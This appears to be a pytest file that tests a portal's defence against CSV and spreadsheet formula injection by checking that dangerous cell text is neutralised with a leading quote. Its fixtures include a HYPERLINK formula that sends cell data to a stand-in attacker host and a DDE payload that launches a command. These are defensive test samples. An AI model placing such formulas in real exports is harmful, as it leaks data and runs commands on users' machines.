"""The shared spreadsheet cells: text a spreadsheet program would run as a formula is written
inert (OWASP CSV injection), numbers stay numbers, and our importers read back the original."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from portal.spreadsheets import csv_cell, csv_unescape, csv_writer, xlsx_row

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LIVE = [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-"]


def _written(rows: list[list]) -> list[list[str]]:
    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)  # "\r\n", so that a field with "\r" is quoted
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


@pytest.mark.parametrize("text", LIVE)
def test_given_text_a_spreadsheet_would_run_when_written_as_csv_then_it_starts_with_a_quote(text):
    [[cell]] = _written([[text]])

    assert cell == "'" + text
    assert csv_unescape(cell) == text


def test_given_numbers_and_plain_text_when_written_as_csv_then_they_are_unchanged():
    row = [-5, Decimal("-12.50"), "-3.50", "+7", "1e-3", "ada@example.edu", "", "it's"]

    [cells] = _written([row])

    assert cells == ["-5", "-12.50", "-3.50", "+7", "1e-3", "ada@example.edu", "", "it's"]
    assert [csv_unescape(c) for c in cells] == cells


@pytest.mark.parametrize("text", ["'=1+1", "''@x", "'hello", "'-5", "'"])
def test_given_text_that_already_starts_with_a_quote_then_it_reads_back_unchanged(text):
    assert csv_unescape(csv_cell(text)) == text


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "ordinary"])
def test_given_formula_text_in_an_xlsx_row_then_it_is_a_string_cell_and_numbers_stay_numbers(
    write_only,
):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    sheet.append(xlsx_row(sheet, [*LIVE, "#N/A", -5, None, "plain"]))
    buffer = io.BytesIO()
    book.save(buffer)

    [cells] = load_workbook(io.BytesIO(buffer.getvalue()))["s"].iter_rows()

    read_back = [t.replace("\r", "\n") for t in LIVE]  # XML reads a carriage return as "\n"
    assert [c.value for c in cells] == [*read_back, "#N/A", -5, None, "plain"]
    assert [c.data_type for c in cells] == ["s"] * (len(LIVE) + 1) + ["n", "n", "s"]
    assert all(c.quotePrefix for c in cells[: len(LIVE)])
